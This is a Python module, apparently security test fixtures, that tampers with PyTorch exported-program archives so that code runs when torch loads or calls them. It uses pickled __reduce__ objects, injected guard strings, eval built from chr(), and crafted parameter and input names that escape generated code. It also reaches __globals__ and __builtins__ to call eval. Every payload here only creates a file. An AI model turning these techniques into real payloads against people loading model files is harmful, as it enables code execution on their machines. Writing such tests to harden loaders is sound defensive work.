"""Changes of an exported program with which it executes code when torch loads or calls it."""

from __future__ import annotations

import io
import json
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

Members = dict[str, bytes]


def edit_program(change: Callable[[Any], None]) -> Callable[[Members, str], None]:
    """Return a function that changes the JSON of the program in an archive."""

    def edit(members: Members, _: str) -> None:
        name = next(name for name in members if name.endswith("models/model.json"))
        program = json.loads(members[name])
        change(program)
        members[name] = json.dumps(program).encode()

    return edit


class Opened:
    """An object whose unpickling creates a file."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (self._path, "w")


def write_file(members: Members, path: str) -> None:
    """Add an operator that creates a file."""
    values = {"filename": {"as_string": path}, "shared": {"as_bool": True}, "size": {"as_int": 1}}
    arguments = [{"name": name, "arg": value, "kind": 1} for name, value in values.items()]

    def change(program: Any) -> None:
        graph = program["graph_module"]["graph"]
        graph["tensor_values"]["made"] = next(iter(graph["tensor_values"].values()))
        output = {"as_tensor": {"name": "made"}}
        node = {"target": "torch.ops.aten.from_file.default", "inputs": arguments, "outputs": [output], "metadata": {}}
        graph["nodes"].insert(0, {**graph["nodes"][0], **node, "name": "made"})

    edit_program(change)(members, path)


def guard(members: Members, path: str) -> None:
    edit_program(lambda program: program["guards_code"].append(f"open({path!r}, 'w') is not None"))(members, path)


def evaluate_text(path: str) -> str:
    """Return code without quotation marks that creates a file."""
    return f"eval({'+'.join(f'chr({each})' for each in f'open({path!r}, {chr(39)}w{chr(39)})'.encode())})"


def guard_message(members: Members, path: str) -> None:
    """Add a guard whose bytes end the text of the message that torch writes into its code."""
    code = f"1 != b'\"); {evaluate_text(path)} #'"
    edit_program(lambda program: program["guards_code"].append(code))(members, path)


def guard_with_line_feed(members: Members, path: str) -> None:
    """Hide the end of the text in an escape that is complete after torch has removed the line feeds."""
    code = f"1 != '\\\nx22); {evaluate_text(path)} #'"
    edit_program(lambda program: program["guards_code"].append(code))(members, path)


def evaluate_size(members: Members, path: str) -> None:
    def change(program: Any) -> None:
        values = program["graph_module"]["graph"]["tensor_values"]
        next(iter(values.values()))["sizes"][0] = {"as_expr": {"expr_str": evaluate_text(path), "hint": None}}

    edit_program(change)(members, path)


def pickle_weight(members: Members, path: str) -> None:
    name = next(name for name in members if name.endswith("weights/model_weights_config.json"))
    config = json.loads(members[name])
    entry = next(iter(config["config"].values()))
    entry["use_pickle"] = True
    members[name] = json.dumps(config).encode()
    members[f"{name.rpartition('/')[0]}/{entry['path_name']}"] = save(Opened(path))


def pickle_inputs(members: Members, path: str) -> None:
    name = next(name for name in members if "sample_inputs" in name)
    members[name] = save(Opened(path))


def save(value: object) -> bytes:
    torch.save(value, file := io.BytesIO())
    return file.getvalue()


def rewrite(path: Path, change: Callable[[Members], None]) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def call(name: str, function: Any, *arguments: str, keyword: str = "") -> dict[str, Any]:
    """Return a node that calls a function with texts, as if it were a subgraph."""
    texts = [{"name": keyword, "arg": {"as_string": text}, "kind": 2 if keyword else 1} for text in arguments]
    function = [] if function is None else [{"name": "", "arg": {"as_tensor": {"name": function}}, "kind": 1}]
    return {
        "target": "torch.ops.higher_order.wrap_with_set_grad_enabled",
        "inputs": [{"name": "", "arg": {"as_bool": True}, "kind": 1}, *function, *texts],
        "outputs": [{"as_tensor": {"name": name}}],
        "metadata": {},
        "is_hop_single_tensor_return": True,
        "name": name,
    }


def add_nodes(program: Any, *nodes: dict[str, Any]) -> None:
    graph = program["graph_module"]["graph"]
    for node in nodes:
        graph["tensor_values"][node["name"]] = next(iter(graph["tensor_values"].values()))
    graph["nodes"][:0] = nodes


def add_parameter(members: Members, program: Any, path: str) -> None:
    """Add a parameter `p_made` that torch looks up at a path in the loaded module."""
    module = program["graph_module"]
    specs, graph = module["signature"]["input_specs"], module["graph"]
    made = json.loads(json.dumps(next(spec for spec in specs if "parameter" in spec)))
    former, arg = made["parameter"]["parameter_name"], made["parameter"]["arg"]
    graph["tensor_values"]["p_made"] = graph["tensor_values"][arg["name"]]
    made["parameter"]["parameter_name"], arg["name"] = path, "p_made"
    specs.insert(0, made)
    graph["inputs"].insert(0, {"as_tensor": {"name": "p_made"}})
    name = next(name for name in members if name.endswith("weights/model_weights_config.json"))
    config = json.loads(members[name])
    config["config"][path] = config["config"][former]
    members[name] = json.dumps(config).encode()


def parameter_as_code(members: Members, path: str) -> None:
    """Name a parameter so that torch writes `getattr(self, "NAME")` with a closing quotation mark in the name."""

    def change(program: Any) -> None:
        add_parameter(members, program, '["*0,eval or "]')
        add_nodes(program, call("first", "p_made", "torch.os.mknod"), call("second", "first", path))

    edit_program(change)(members, path)


def parameter_as_globals(members: Members, path: str) -> None:
    """Name a parameter so that torch reads the global variables of a method of the loaded module."""

    def get(name: str, source: str, key: str) -> dict[str, Any]:
        values = [{"as_tensor": {"name": source}}, {"as_string": key}]
        node = call(name, None)
        return node | {
            "target": "_operator.getitem",
            "inputs": [{"name": "", "arg": value, "kind": 1} for value in values],
            "outputs": [{"as_tensor": {"name": name}}],
        }

    def change(program: Any) -> None:
        add_parameter(members, program, "__class__.named_parameters.__globals__")
        builtins, evaluate = get("builtins", "p_made", "__builtins__"), get("evaluate", "builtins", "eval")
        function, result = call("function", "evaluate", "torch.os.mknod"), call("result", "function", path)
        add_nodes(program, builtins, evaluate, function, result)

    edit_program(change)(members, path)


def keyword_as_code(members: Members, path: str) -> None:
    edit_program(lambda program: add_nodes(program, call("first", None, path, keyword="torch.os.mknod, path")))(
        members, path
    )


def value_as_module(members: Members, path: str) -> None:
    """Name values `self`, so that torch reads the names of subgraphs as attributes of these values.

    The first subgraph reads the method `register_hook` of a tensor, and the second one its `__globals__`.
    """

    def value(name: str) -> dict[str, Any]:
        # The other keys are unknown to torch. They make the value look like an argument of an operator.
        return {"as_tensor": {"name": name, "arg": 1, "kind": 1}}

    def subgraph(name: str, inputs: list[str], nodes: list[dict[str, Any]], output: str) -> dict[str, Any]:
        names = [*inputs, *(node["name"] for node in nodes)]
        parts = {"inputs": [value(each) for each in inputs], "outputs": [value(output)], "nodes": nodes}
        others = {f"sym_{kind}_values": {} for kind in ("int", "float", "bool")} | {"custom_obj_values": {}}
        values = {"tensor_values": dict.fromkeys(names, meta), "is_single_tensor_return": True}
        return {"as_graph": {"name": name, "graph": {**parts, **others, **values}}}

    def node(name: str, target: str, *arguments: dict[str, Any]) -> dict[str, Any]:
        inputs = [{"name": "", "arg": each, "kind": 1} for each in arguments]
        return {**call(name, None), "target": target, "inputs": inputs, "outputs": [value(name)]}

    def wrap(name: str, *arguments: dict[str, Any]) -> dict[str, Any]:
        return node(name, "torch.ops.higher_order.wrap_with_set_grad_enabled", {"as_bool": True}, *arguments)

    def clone(name: str, source: str) -> dict[str, Any]:
        copied = node(name, "torch.ops.aten.clone.default", value(source))
        copied["inputs"][0]["name"] = "self"
        return copied

    def get(name: str, source: dict[str, Any], key: str) -> dict[str, Any]:
        return node(name, "_operator.getitem", source, {"as_string": key})

    meta: Any = None

    def change(program: Any) -> None:
        nonlocal meta
        graph = program["graph_module"]["graph"]
        meta = next(iter(graph["tensor_values"].values()))
        (user,) = (
            spec["user_input"] for spec in program["graph_module"]["signature"]["input_specs"] if "user_input" in spec
        )
        same = subgraph("same", ["a"], [], "a")
        read_globals = [
            wrap("self", value("same"), value("m")),
            get("built", subgraph("__globals__", ["a"], [clone("b", "a")], "b"), "__builtins__"),
            get("evaluate", value("built"), "eval"),
            wrap("function", value("evaluate"), {"as_string": "torch.os.mknod"}),
            wrap("ran", value("function"), {"as_string": path}),
            wrap("kept", value("same"), value("self")),
        ]
        read_method = [
            clone("self", "o"),
            wrap("result", value("second"), subgraph("register_hook", ["a"], [clone("b", "a")], "b"), value("same")),
            clone("kept", "self"),
        ]
        first = subgraph("first", ["o", "second", "same"], read_method, "result")
        second = subgraph("second", ["m", "same"], read_globals, "ran")
        add_nodes(program, wrap("made", first, value(user["arg"]["as_tensor"]["name"]), second, same))

    edit_program(change)(members, path)


def input_key_as_code(members: Members, path: str) -> None:
    """Name an input so that the message of a guard becomes an expression."""
    name = next(name for name in members if "sample_inputs" in name)
    members[name] = save((({f"%torch.os.mknod('{path}')or ": torch.randn(4, 1, 8, 8)},), {}))


def hidden_key_as_code(members: Members, path: str) -> None:
    """As `input_key_as_code`, in a `Counter`, whose content PyTorch's trees of values do not show."""
    name = next(name for name in members if "sample_inputs" in name)
    key = f'" + str(__import__("os").mknod(bytes({list(path.encode())}).decode())) + "'
    members[name] = save(((), Counter({"x": {key: torch.randn(4, 1, 8, 8)}})))  # type: ignore[dict-item]
